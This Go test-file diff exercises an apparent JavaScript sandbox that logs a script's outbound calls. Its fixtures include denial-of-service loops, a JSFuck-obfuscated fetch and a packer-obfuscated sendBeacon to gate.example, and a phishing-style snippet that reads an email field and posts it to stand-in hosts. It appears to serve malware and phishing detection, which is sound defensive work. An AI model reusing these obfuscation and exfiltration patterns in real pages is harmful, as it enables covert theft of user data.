@@ -56,3 +56,62 @@ func TestUnwrap(t *testing.T) {
 		}
 	}
 }
+
+func TestBounded(t *testing.T) {
+	for _, src := range []string{
+		"while(true){}", "for(;;){x+='a'}", "var s='a';while(1){s=s+s}", "function f(){f()};f()", "var a=[];while(1)a.push(a)", strings.Repeat("(", 50000), strings.Repeat("[", 50000), strings.Repeat("a=>", 20000),
+		strings.Repeat("`${", 5000), "x=" + strings.Repeat("'a'+", 30000) + "'b'", "eval('eval(\"1\")')", strings.Repeat("!", 50000) + "1", strings.Repeat("{", 30000), "'a'.repeat(1e9)", "new Array(1e9)", "a:while(1){while(1){continue a}}",
+		"var o={};o.a=o;document.write(o+[o,[o]])", "var s=''; for(var i=0;i<1e7;i++){s='x'+s}", "try{throw 1}catch(e){for(;;);}", strings.Repeat("if(u)", 5000) + "x()", "switch(u){case 1:" + strings.Repeat("case 2:", 2000) + "}",
+	} {
+		r := run(src)
+		if r.Steps > 8_000_000 {
+			t.Errorf("%.40q: %d steps", src, r.Steps)
+		}
+	}
+}
+
+func FuzzRun(f *testing.F) {
+	for _, s := range []string{"document.write(atob('PGI+'))", "var a=[1,2].map(x=>x+1);eval('a')", "`${a}`", "class A{b(){}}", "for(var i of [1])switch(i){case 1:break}", "/a[/]/g.test('a')", "x?.y?.[0]??1", "[]['filter']['constructor']('return 1')()", "({a,b:{c}}=d)", "async()=>{await fetch(`${u}`)}"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		Run([]Source{{Text: s}, {Text: s, Handler: true}}, Options{Steps: 100_000})
+	})
+}
+
+func TestJSFuck(t *testing.T) {
+	// "fetch" spelled from false, undefined and true; the constructor from a method.
+	f, e, tt, c, h := "(![]+[])[+[]]", "(!![]+[])[!+[]+!+[]+!+[]]", "(!![]+[])[+[]]", "([]['flat']+[])[!+[]+!+[]+!+[]]", "'h'"
+	r := run("[]['flat']['constructor']('return '+" + f + "+" + e + "+" + tt + "+" + c + "+" + h + ")()('https://gate.example/p.php')")
+	if len(r.Calls) != 1 || r.Calls[0].URL != "https://gate.example/p.php" {
+		t.Errorf("%+v", r)
+	}
+}
+
+func TestPacker(t *testing.T) {
+	r := run(`eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('0.1("2://3.4/5")',6,6,'navigator|sendBeacon|https|gate|example|p'.split('|'),0,{}))`)
+	if len(r.Calls) != 1 || r.Calls[0].URL != "https://gate.example/p" || r.Calls[0].Kind != "beacon" {
+		t.Errorf("%+v", r)
+	}
+}
+
+func TestUnknown(t *testing.T) {
+	r := run(`var e=document.getElementById("email").value; var i=e.indexOf("@"); var d=e.substr(i+1); if(d==""){location.href="https://empty.example/"}else{fetch("https://gate.example/p?d="+d+"&x=1")} $.post("https://post.example/s",{e:e},function(r){ if(r.ok){ window.location.replace("https://done.example/") } })`)
+	var got []string
+	for _, c := range r.Calls {
+		got = append(got, c.Kind+" "+c.URL)
+	}
+	want := "redirect https://empty.example/,fetch https://gate.example/p?d=,xhr https://post.example/s,redirect https://done.example/"
+	if strings.Join(got, ",") != want {
+		t.Errorf("got %q", got)
+	}
+}
+
+func TestShape(t *testing.T) {
+	a := run(`var _0xa1=['x','y','z'];function go(e){e.preventDefault();fetch('https://a.example/1',{method:'POST'})}`).Shape
+	b := run(`var _0xff=['q','r','s','t','u'];function snd(ev){ev.preventDefault();fetch("https://b.example/2",{method:"POST"})}`).Shape
+	c := run(`function go(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','u');x.send()}`).Shape
+	if a == "" || a != b || a == c {
+		t.Errorf("%s %s %s", a, b, c)
+	}
+}
